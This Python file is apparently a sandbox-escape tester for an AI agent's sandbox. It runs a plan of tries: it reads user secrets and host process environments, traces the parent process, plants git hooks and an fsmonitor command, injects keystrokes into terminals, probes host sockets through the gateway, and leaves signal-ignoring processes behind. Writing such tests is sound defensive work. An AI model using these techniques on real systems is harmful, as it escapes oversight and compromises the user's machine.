"""The attacker: tries to escape from the sandbox it runs in, and reports the result of each try on a line.

Run by path in the sandbox (`python -I -S attack.py MARK`), with a plan as JSON on stdin; it imports nothing of ours.
Its reports are only half of the verdict: the host checks what it changed, reached or left behind.
"""

import ctypes
import fcntl
import functools
import json
import os
import signal
import socket
import sys
import termios
import time
from collections.abc import Callable
from typing import Any

# pathlib takes longer to import than everything else in this program
# ruff: noqa: PTH103, PTH104, PTH123


CLONE_NEWUSER = 0x10000000
MNT_DETACH = 2
PTRACE_SEIZE = 0x4206
IO_SETUP = {"x86_64": 206, "aarch64": 0}.get(os.uname().machine)
PATIENCE = 1.0
LINGER_SECONDS = 20.0
MOST_BYTES = 4096

Plan = dict[str, Any]

libc = ctypes.CDLL(None, use_errno=True)


def main() -> None:
    """Run the tries in the plan one after the other, whatever their results."""
    plan = json.load(sys.stdin.buffer)
    for key in plan["tries"]:
        notes: list[str] = []
        try:
            proof = TRIES[key](plan, notes)
        except OSError as error:
            proof = ""
            notes.append(error.strerror or str(error))
        line = json.dumps({"key": key, "proof": proof, "notes": "; ".join(dict.fromkeys(notes))})
        os.write(1, line.encode() + b"\n")


def read_secret(plan: Plan, notes: list[str]) -> str:
    """Read a file of the user."""
    return head(plan["secret"])


def write_outside(plan: Plan, notes: list[str]) -> str:
    """Write outside the agent's folders; in a private /tmp that works, so only the host can judge it."""
    for path in plan["write"]:
        attempt(notes, functools.partial(append, path, plan["mark"]))
    return ""


def see_process(plan: Plan, notes: list[str]) -> str:
    """Read the command line of a host process."""
    return head(f"/proc/{plan['decoy']}/cmdline")


def read_environment(plan: Plan, notes: list[str]) -> str:
    """Read the variables of a host process, and report those of this one."""
    own = "".join(f"{name}={value}\0" for name, value in os.environ.items())
    theirs = ""
    try:
        theirs = head(f"/proc/{plan['decoy']}/environ")
    except OSError as error:
        notes.append(error.strerror or str(error))
    return own + theirs


def send_signals(plan: Plan, notes: list[str]) -> str:
    """Kill a host process, and signal the one that started us."""
    attempt(notes, lambda: os.kill(plan["decoy"], signal.SIGKILL))
    attempt(notes, lambda: os.kill(plan["coordinator"], signal.SIGURG))  # ignored by a process that does not expect it
    return ""


def make_user_namespace(plan: Plan, notes: list[str]) -> str:
    """Become root of a user namespace, which is how most kernel vulnerabilities are reached."""
    attempt(notes, lambda: in_child(lambda: check_call(libc.unshare(CLONE_NEWUSER))))
    return "" if notes else "a user namespace was made"


def mount(plan: Plan, notes: list[str]) -> str:
    """Mount something, and remove the mount that covers `.git`."""
    os.makedirs("mounted", exist_ok=True)
    target = os.path.abspath("mounted").encode()  # noqa: PTH100
    mounted = attempt(notes, lambda: check_call(libc.mount(b"tmpfs", target, b"tmpfs", 0, None)))
    bared = attempt(notes, lambda: check_call(libc.umount2(b".git", MNT_DETACH)))
    return " and ".join(word for word, done in (("mounted", mounted), ("unmounted .git", bared)) if done)


def trace_parent(plan: Plan, notes: list[str]) -> str:
    """Trace the process that ends us with the coordinator: the sandbox's first, or the launcher."""
    parent = os.getppid()
    traced = attempt(notes, lambda: in_child(lambda: check_call(libc.ptrace(PTRACE_SEIZE, parent, None, None))))
    written = attempt(notes, lambda: os.close(os.open(f"/proc/{parent}/mem", os.O_RDWR)))
    return " and ".join(word for word, done in (("traced", traced), ("opened its memory", written)) if done)


def use_up_kernel(plan: Plan, notes: list[str]) -> str:
    """Hold a lease that the host would wait for, and use up resources that the kernel counts globally."""
    append("leased", "")
    fd = os.open("leased", os.O_RDONLY)
    leased = attempt(notes, lambda: fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK))
    os.close(fd)
    context = ctypes.c_ulong(0)
    queued = IO_SETUP is not None and attempt(
        notes, lambda: check_call(libc.syscall(IO_SETUP, 1, ctypes.byref(context)))
    )
    return " and ".join(word for word, done in (("leased a file", leased), ("had io_setup", queued)) if done)


def connect_tcp(plan: Plan, notes: list[str]) -> str:
    """Reach a listener on the host's loopback, by TCP and by a datagram."""
    attempt(notes, lambda: socket.create_connection(("127.0.0.1", plan["port"]), PATIENCE).close())

    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(plan["mark"].encode(), ("127.0.0.1", plan["udp_port"]))

    attempt([], send)  # a datagram can be sent to nobody: only the host knows whether it arrived
    return ""


def ask_gateway(plan: Plan, notes: list[str]) -> str:
    """Make the gateway, which listens in the sandbox, reach the host's loopback."""
    place = f"127.0.0.1:{plan['port']}"
    lines = (
        f"CONNECT {place} HTTP/1.1\r\nHost: {place}",
        f"CONNECT localhost:{plan['port']} HTTP/1.1\r\nHost: localhost",
        f"CONNECT [::ffff:127.0.0.1]:{plan['port']} HTTP/1.1\r\nHost: x",
        f"GET http://{place}/ HTTP/1.1\r\nHost: {place}",
        f"POST /bait/../../ HTTP/1.1\r\nHost: {place}\r\nContent-Length: 0",
        f"POST /bait/v1/messages HTTP/1.1\r\nHost: {place}\r\nx-api-key: guess\r\nContent-Length: 2\r\n\r\n{{}}",
    )

    def ask(port: int, words: str) -> None:
        with socket.create_connection(("127.0.0.1", port), PATIENCE) as gateway:
            gateway.sendall(f"{words}\r\n\r\n".encode())
            answer = gateway.recv(4096).decode(errors="replace").split("\r\n")[0]
        notes.append(answer)

    for port in plan["gateway"]:
        for words in lines:
            attempt(notes, lambda port=port, words=words: ask(port, words))  # type: ignore[misc]
    return ""


def connect_path(plan: Plan, notes: list[str]) -> str:
    """Reach a host socket by its path, like those of docker or ssh-agent."""
    attempt(notes, lambda: connect(plan["socket"]))
    return ""


def connect_abstract(plan: Plan, notes: list[str]) -> str:
    """Reach an abstract host socket."""
    attempt(notes, lambda: connect("\0" + plan["abstract"]))
    return ""


def gain_privileges(plan: Plan, notes: list[str]) -> str:
    """Look for capabilities or a way to get them, and become root."""
    with open("/proc/self/status") as file:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
    wrong = [f"{name} is {status[name]}" for name in ("CapPrm", "CapEff", "CapAmb") if int(status[name], 16)]
    wrong += [
        f"{name} is {status[name]}" for name, good in (("NoNewPrivs", "1"), ("Seccomp", "2")) if status[name] != good
    ]
    if os.geteuid() and attempt(notes, lambda: in_child(lambda: os.setuid(0))):
        wrong.append("setuid to root worked")
    notes.append("there are none")
    return ", ".join(wrong)


def type_into_terminal(plan: Plan, notes: list[str]) -> str:
    """Write to a terminal of the user, and type into it."""
    attempt(notes, lambda: type_into(plan["terminal"], plan["mark"]))
    attempt([], lambda: type_into("/dev/tty", plan["mark"]))
    return ""


def type_into(path: str, text: str) -> None:
    """Write *text* to a terminal, and push a character into its input."""
    terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
    try:
        fcntl.ioctl(terminal, termios.TIOCSTI, b"#")
    except OSError:
        os.write(terminal, text.encode())
    finally:
        os.close(terminal)


def replace_git(plan: Plan, notes: list[str]) -> str:
    """Leave programs where the user's git, or ours, would run them."""
    run = f"#!/bin/sh\ntouch {plan['canary']}\n"
    config = f"[core]\n\tfsmonitor = touch {plan['canary']}\n\thooksPath = {os.getcwd()}/planted/hooks\n"  # noqa: PTH109
    os.makedirs("planted/hooks", exist_ok=True)
    append("planted/config", config)
    for hook in ("post-checkout", "reference-transaction", "pre-commit"):
        append(f"planted/hooks/{hook}", run)
        os.chmod(f"planted/hooks/{hook}", 0o755)  # noqa: PTH101, S103
    attempt(notes, lambda: os.rename(".git", "old-git"))
    attempt(notes, lambda: append(".git", "gitdir: planted\n"))
    attempt(notes, lambda: append(f"{plan['git']}/config", "# planted\n"))
    attempt(notes, lambda: append(f"{plan['git']}/hooks/pre-push", "#!/bin/sh\n"))
    return ""


def linger(plan: Plan, notes: list[str]) -> str:
    """Leave a process behind: in another session, without a parent, ignoring signals."""
    ours, theirs = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            stay(theirs)
        os._exit(0)
    os.wait()
    os.close(theirs)
    os.read(ours, 1)
    os.close(ours)
    notes.append("it is gone")
    return ""


def stay(tell: int) -> None:
    """Be that process."""
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    nowhere = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(nowhere, fd)
    os.write(tell, b"1")
    time.sleep(LINGER_SECONDS)
    os._exit(0)


def attempt(notes: list[str], action: Callable[[], object]) -> bool:
    """Do one thing, and keep the reason if it was refused."""
    try:
        action()
    except OSError as error:
        notes.append(error.strerror or str(error))
        return False
    return True


def in_child(action: Callable[[], object]) -> None:
    """Run in a child what would change this process."""
    child = os.fork()
    if child == 0:
        code = 0
        try:
            action()
        except OSError as error:
            code = error.errno or 255
        finally:
            os._exit(code)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, os.strerror(code))


def check_call(result: int) -> None:
    """Raise the error of a failed call of the C library."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def head(path: str) -> str:
    """Read the beginning of a file."""
    with open(path, "rb") as file:
        return file.read(MOST_BYTES).decode(errors="replace")


def append(path: str, text: str) -> None:
    """Add to a file, or make it."""
    with open(path, "a") as file:
        file.write(text)


def connect(address: str) -> None:
    """Connect to a unix socket."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(PATIENCE)
        connection.connect(address)


TRIES: dict[str, Callable[[Plan, list[str]], str]] = {
    "secret": read_secret,
    "write": write_outside,
    "process": see_process,
    "environment": read_environment,
    "trace": trace_parent,
    "kernel": use_up_kernel,
    "namespace": make_user_namespace,
    "mount": mount,
    "tcp": connect_tcp,
    "gateway": ask_gateway,
    "socket": connect_path,
    "abstract": connect_abstract,
    "privileges": gain_privileges,
    "terminal": type_into_terminal,
    "git": replace_git,
    "signal": send_signals,
    "linger": linger,
}

if __name__ == "__main__":
    main()
